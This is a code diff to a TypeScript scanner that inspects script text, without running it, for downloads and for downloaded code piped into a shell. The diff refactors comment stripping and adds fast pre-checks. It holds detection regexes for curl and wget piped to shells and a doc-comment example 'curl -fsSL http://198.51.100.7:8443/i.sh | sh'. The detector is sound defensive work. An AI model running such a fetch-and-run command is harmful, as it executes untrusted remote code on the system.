@@ -1,7 +1,7 @@
 import { show } from '../show.ts';
 import type { FetchAddress, Shown } from '../snapshot.ts';
 import type { ByteText, NotShown } from '../text-kinds.ts';
-import { byteTextOf } from './byte-text.ts';
+import { asByteText, byteTextOf, shownBytes } from './byte-text.ts';
 import { FETCHERS, isShell, LANGUAGES, SHELLS } from './program-names.ts';
 
 /** What the text of a script or of a command line does, as far as its text says. It is never run. */
@@ -28,6 +28,7 @@ const URL = /\b(https?|ftps?|tftp):\/\/([^\s'"`<>|;()\\\0]{1,2000})/gi;
 const BARE =
   /(?<![\w.-])(curl|wget)((?:\s{1,9}-{1,2}[\w-]{0,40}(?:[= ][\w/][\w/.-]{0,100})?){0,12})\s{1,9}["']?((?:\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24})(?::\d{1,5})?(?:\/[^\s'"|;&<>()\x60]{0,1000})?)(?=$|[\s'"|;&<>)\x60])/gi;
 const HAS_FETCHER = new RegExp(String.raw`(?<![\w.-])${FETCHER}(?![\w])`);
+const NAMES_FETCHER = new RegExp(FETCHES);
 const PIPED = new RegExp(
   String.raw`(?<![\w.-])${FETCHES}\b[^\n;]{0,600}?\|&?\s{0,9}(?:(?:tee|cat|base64|gzip|gunzip|zcat|tr|sed|head|tail|openssl|xxd|rev)\b[^|\n;]{0,200}\|\s{0,9}){0,3}${RUNNER}(${SHELL})(?=$|[\s;&|)'"\x60])`,
   'g',
@@ -60,14 +61,21 @@ const DEFAULT_PORTS: Readonly<Record<string, number>> = {
  * @example scriptFacts(byteText('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).fetchesAndRuns // true
  */
 export function scriptFacts(text: ByteText): ScriptFacts {
-  const joined = text.slice(0, MAX_SCRIPT_BYTES).replace(/\\\r?\n/g, ' ');
-  const code = joined
-    .split('\n')
-    .filter((line) => !/^\s*#/.test(line))
-    .join('\n');
+  const code = codeOf(text);
   const fetches = fetchAddresses(code);
   return { fetches, fetchesAndRuns: runsWhatItFetches(code, fetches), paths: absolutePaths(code) };
 }
+
+/** Addresses that a text fetches from: of its facts these alone, at a fraction of the cost. */
+export const fetchesOfText = (text: ByteText): readonly FetchAddress[] => fetchAddresses(codeOf(text));
+
+const codeOf = (text: ByteText): string =>
+  text
+    .slice(0, MAX_SCRIPT_BYTES)
+    .replace(/\\\r?\n/g, ' ')
+    .split('\n')
+    .filter((line) => !/^\s*#/.test(line))
+    .join('\n');
 
 /** Addresses that a fetcher is given. @param name of the fetcher @param args its words */
 export const fetchesIn = (name: string, args: readonly string[]): FetchAddress[] =>
@@ -111,8 +119,10 @@ function toAddress(scheme: string, rest: string): FetchAddress | null {
 }
 
 function runsWhatItFetches(code: string, fetches: readonly FetchAddress[]): boolean {
-  if (code.split('\n').some(isPiped)) return true;
-  if (SUBSTITUTED.test(code) || FROM_LANGUAGE.test(code)) return true;
+  if (FROM_LANGUAGE.test(code)) return true;
+  // All that follows needs a fetcher's name, and each line of each profile and unit is read.
+  if (!NAMES_FETCHER.test(code)) return false;
+  if (code.split('\n').some(isPiped) || SUBSTITUTED.test(code)) return true;
   const names = new Set<string>();
   for (const match of code.matchAll(SAVED_AS))
     if (match[1] !== undefined && match[1] !== '-') names.add(match[1]);
@@ -128,6 +138,7 @@ function runsWhatItFetches(code: string, fetches: readonly FetchAddress[]): bool
 }
 
 const isPiped = (line: string): boolean =>
+  line.includes('|') &&
   [...line.matchAll(PIPED)].some((match) =>
     readsItsProgram(match[1] ?? '', line.slice(match.index + match[0].length)),
   );
@@ -183,5 +194,5 @@ function absolutePaths(code: string): Shown[] {
 /** Text of one character a byte becomes shown text; text that is no bytes (already decoded) is shown as it is. */
 function shown(text: NotShown): Shown {
   for (let i = 0; i < text.length; i++) if (text.charCodeAt(i) > 0xff) return show(text);
-  return show(Uint8Array.from(text, (c) => c.charCodeAt(0)));
+  return shownBytes(asByteText(text));
 }
